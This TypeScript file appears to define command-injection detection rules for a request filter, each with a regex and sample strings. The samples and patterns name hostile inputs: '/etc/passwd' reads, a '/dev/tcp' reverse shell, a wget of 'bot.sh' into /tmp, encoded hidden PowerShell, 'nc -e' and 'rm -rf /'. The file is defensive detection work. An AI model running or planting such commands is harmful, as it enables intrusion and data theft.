import type { Rule } from '../../rule.js'
import {
  findInjectedCommand,
  findLeadingCommand,
  findLoneCommand,
  findRareCommand,
  INJECTED_SIGN,
  LEADING_SIGN,
  LEADING_WORDS
} from './command-line.js'
import { POWERSHELL_COMMAND, POWERSHELL_LITERALS, POWERSHELL_VERB_NOUN } from './windows-commands.js'

/** The beginning of a string that is a command behind another. */
const LEADING_SEPARATOR = /^\s*["']?\)?\s*(?:[;|]|&&|\$\(|`[^`]{2,64}`$)[\s+]*["']?\(?/

const APART =
  /(?:^|[;|&\s`(])((?:[a-z/]+(?:''|""|\\(?=[a-z]))[a-z/'"\\]*|["'][a-z]{1,8}["'][a-z]{1,12}|[a-z]{1,8}(?:'[a-z]{1,8}'|"[a-z]{1,8}")[a-z]{0,8})(?=[\s;|&`)]|$))/g

/** Commands: names of programs where a shell would run them. Shell syntax without names is in command-syntax. */
export const COMMAND_RULES: readonly Rule[] = [
  {
    id: 'command-after-separator',
    why: '`; cat /etc/passwd`, `| sh`, `$(id)`, `` `whoami` ``, `& ping -c 1 host`.',
    reach: 'parameter',
    except: ['string', 'standard-header', 'name'],
    follows: LEADING_WORDS,
    test: findInjectedCommand,
    sign: INJECTED_SIGN,
    finds: '`id`',
    leaves: '${name'
  },
  {
    id: 'command-unknown-after-separator',
    why: 'Whatever program, when an option or a path follows it behind a separator: `; anything -rf /x`.',
    reach: 'parameter',
    except: ['string', 'header', 'path', 'name'],
    test: /(?:[;|]|&&|\n|(?<![a-z]{2}[,.:]? )`|\$\()\s{0,8}(?:\.{0,2}\/)?[a-z][\w.+-]{1,24}(?:\s{1,4}-{1,2}[a-z][\w-]{0,24}(?:[\s=;|`)]|$)|\s{1,4}~?\/\w[\w./*?-]{1,64}|\s{0,4}\|\s{0,4}(?:ba|da|z|k)?sh\b)|[|&]\s{0,8}[a-z][\w.]{1,24}\s{1,4}\/[a-z?](?=[\s:|&]|$)|[;|`]\s{0,8}(?:epal|epcsv|gal|gbp|gci|gcm|gcs|gdr|ghy|gjb|gmo|gps|gsnp?|gsv|gwmi|icm|iex|ihy|ip(?:al|csv|mo|sn)|iwmi|iwr|nal|ndr|nmo|nsn|ogv|rbp|rcjb|rdr|rjb|rmo|rni|rnp|rsnp?|rvpa|rwmi|sajb|saps|sasv|sbp|sls|sp(?:jb|ps|sv)|swmi|trcm|wjb|clhy|cvpa|dbp|ebp|asnp|etsn|exsn|epsn)\s{1,4}["'$./\\\w-]/i,
    finds: ';uname -a',
    leaves: 'a || b'
  },
  {
    id: 'command-with-option',
    why: 'A program with an option as the whole value.',
    reach: 'parameter',
    except: ['string', 'path', 'name'],
    test: /^\s{0,4}["']?(?!(?:(?:npm|yarn|pnpm|pip3?|brew)\s+(?:add|i|install|run|update|test)|git\s+(?:add|checkout|clone|commit|diff|log|merge|pull|push|rebase)|docker\s+(?:build|compose|pull|run))\s)(?:\w{1,16}=)?[a-z][\w.]{0,23}\w(?:-[\w.]{1,16}){0,3}(?:\s[a-z]{2,16})?\s{1,4}(?:--[a-z][a-z-]{1,24}(?:[\s=].{0,200})?|-[a-z]{1,2}\s{1,4}\S.{0,200})$/s,
    finds: 'bash -c "exec 3<>/dev/tcp/192.0.2.8/80"',
    leaves: '2 * 3 - 1'
  },
  {
    id: 'command-line',
    why: '`wget http://…`, `/bin/sh -c`, `time curl host`.',
    reach: 'parameter',
    except: ['string', 'path', 'name'],
    begins: LEADING_WORDS,
    test: findLeadingCommand,
    sign: LEADING_SIGN,
    finds: '`uname -a`',
    leaves: 'Dublin'
  },
  {
    id: 'command-rare-in-string',
    why: 'A string of a message that is a command line, of a program that the scripts of projects do not call.',
    reach: 'parameter',
    only: ['string'],
    begins: LEADING_WORDS,
    test: findRareCommand,
    sign: LEADING_SIGN,
    finds: 'zstdcat /var/log/syslog.zst',
    leaves: 'rimraf dist && tsc -p .'
  },
  {
    id: 'command-leads-string',
    why: 'A string of a message that begins with a separator and a command.',
    reach: 'field',
    test: (text) => (text.length < 200 && LEADING_SEPARATOR.test(text) ? findInjectedCommand(text.replace(/\+/g, ' ')) : -1),
    sign: LEADING_SEPARATOR,
    finds: '`id`',
    leaves: 'a || b'
  },
  {
    id: 'command-chained-in-string',
    why: 'A command that ends a value of another sort: `8.8.8.8; cat /etc/passwd`.',
    reach: 'field',
    except: ['xml'],
    test: /[;|&`\n]\s{0,8}(?:cat|less|more|head|tail|tac|nl)\s{1,8}\/etc\/(?:passwd|shadow|hosts)|\/dev\/tcp\/[\w.]+\/\d|^[^\s;|&]{1,64}\s{0,8}(?:[;|`]|&&|\$\()\s{0,8}(?:cat|id|whoami|uname|ls|nc|wget|curl|ping|sleep|nslookup|rm)\b[\w\s./:-]{0,64}[`)]?;?$|\bnc\s{1,8}-[a-z]{0,8}e[a-z]{0,8}\s|[;|&]\s{0,8}(?:\/bin\/)?(?:ba)?sh\s{1,8}-[ci]\b|\b(?:curl|wget)\s[^|;]{4,128}\|\s{0,8}(?:sudo\s{1,8})?(?:ba)?sh\s{0,8}$/,
    finds: "w'ho'ami;ls -la",
    leaves:
      'package main\n\nimport (\n\t"fmt"\n\t"os/exec"\n)\n\nfunc main() {\n\tout, err := exec.Command("cat", "/etc/passwd").Output()\n\tif err != nil || len(out) == 0 {\n\t\tpanic(err)\n\t}\n\tfmt.Println(string(out))\n}\n'
  },
  {
    id: 'command-quoted-apart',
    why: "A word that is quoted apart so that no filter knows it: `'wh'oami`, `c''at`.",
    reach: 'string',
    except: ['path'],
    test: findQuotedApart,
    sign: APART,
    finds: 'c\\at /etc/hostname',
    leaves: "O'Brien"
  },
  {
    id: 'command-dot-source',
    why: 'A script that the shell reads into itself: `; . ./x`.',
    reach: 'parameter',
    except: ['header', 'path'],
    test: /(?:[;|&]|\$\(|(?:^|[\s=])`)\s{0,4}\.\s{1,4}[\w~/$.]/,
    finds: '; . ./a',
    leaves: 'a ... b. c'
  },
  {
    id: 'command-powershell',
    why: 'PowerShell, by its commands, aliases and options.',
    reach: 'parameter',
    except: ['string'],
    literals: POWERSHELL_LITERALS,
    test: (text) => {
      const named = text.search(POWERSHELL_COMMAND)
      if (named >= 0) return named
      const spelled = text.search(POWERSHELL_VERB_NOUN)
      if (spelled >= 0) return spelled
      return text.search(
        /(?:^|[;|&\s(`'"])(?:iex|iwr|irm|icm)\s{0,8}[\s('"$]\s{0,8}[('"$\w]|\b(?:powershell|pwsh)(?:\.exe)?["']?\s+[-/]\w|\[System\.\w+[.\]]|\.Download(?:String|File|Data)\s*\(|\bNew-Object\b|\s-e(?:nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{16,}/i
      )
    },
    finds: 'Get-Widget -All',
    leaves: 'Add-On'
  },
  {
    id: 'command-powershell-in-string',
    why: 'PowerShell that downloads or decodes, in a string.',
    reach: 'field',
    test: /\bpowershell(?:\.exe)?\s{1,8}[^\n]{0,80}-e(?:nc|ncodedcommand)?\s{1,8}[A-Za-z0-9+/=]{16,}|\b(?:iex|invoke-expression)\s{0,8}\(?\s{0,8}\(?\s{0,8}new-object\b|\b(?:iwr|invoke-(?:webrequest|restmethod))\s{1,8}(?:-uri\s{1,8})?['"]?https?:|\.downloadstring\s{0,8}\(\s{0,8}['"]https?:/i,
    finds: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A',
    leaves: 'open powershell and look'
  },
  {
    id: 'command-cmd-exe',
    why: 'cmd.exe with an option.',
    reach: 'string',
    wholeOnly: true,
    test: /\bcmd(?:\.exe|32)?["']?\s*\/[ckrsv]\b|\bcommand\.com\b|%comspec%|\bcmd\.exe\b(?!["'`)]{0,2}[,.]?\s[a-z]{2})/i,
    finds: 'cmd.exe /c net user',
    leaves:
      'import os, subprocess\n\ndef run(cmd: str) -> str:\n    """Runs a command; returns its output."""\n    return subprocess.run(cmd, shell=True, capture_output=True).stdout.decode()\n\nif __name__ == "__main__":\n    print(run("ls -la /etc | sort"), os.system("id"))\n    print("{}".format(1).__class__.__mro__)\n'
  },
  {
    id: 'command-line-in-string',
    why: 'A string of a message that is a command line only an intruder types.',
    reach: 'string',
    test: /^["'\s]{0,4}(?:(?:cat|tac|less|head|tail|(?:zst|[zb]|bz|xz|lz)cat|g(?:un)?zip)\s+(?:-\w+\s+){0,3}\/\w+\/[\w./-]+\s*$|(?:time|[sl]trace)\s+(?:sh\s+-c\s+)?(?:who|whoami|id|curl|wget|nc|bsdtar|uname)\b|(?:cat|less|more|head|tail|nl|tac|cp|strings)\s+\/(?:etc|proc|root|var\/log)\/|(?:ba|z|k)?sh\s+-i\b|\/(?:usr\/)?bin\/(?:\w{0,3}sh|cat|nc|id|ls|wget|curl|perl|python\d?|g(?:un)?zip|[zbx]z?cat)\b(?:\s+-|\s+\/|$)|nc(?:at)?\s+(?:-[a-z]+\s+)*[\w.]+\s+\d{2,5}(?:\s+-e|\s*$)|rm\s+-rf\s+\/(?:\s|\*|$)|whoami$|(?:wget|curl)\s[^|;&]{4,128}(?:[|;]\s*(?:ba)?sh|&&\s*(?:chmod|sh|bash)|-O\s*\/tmp))/,
    finds: 'wget http://192.0.2.6/bot.sh -O /tmp/b',
    leaves:
      '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
  }
]

function findQuotedApart(text: string): number {
  APART.lastIndex = 0
  for (let match = APART.exec(text); match !== null; match = APART.exec(text)) {
    const word = (match[1] ?? '').replace(/['"\\]/g, '')
    if (findLoneCommand(word) === 0) return match.index
  }
  return -1
}
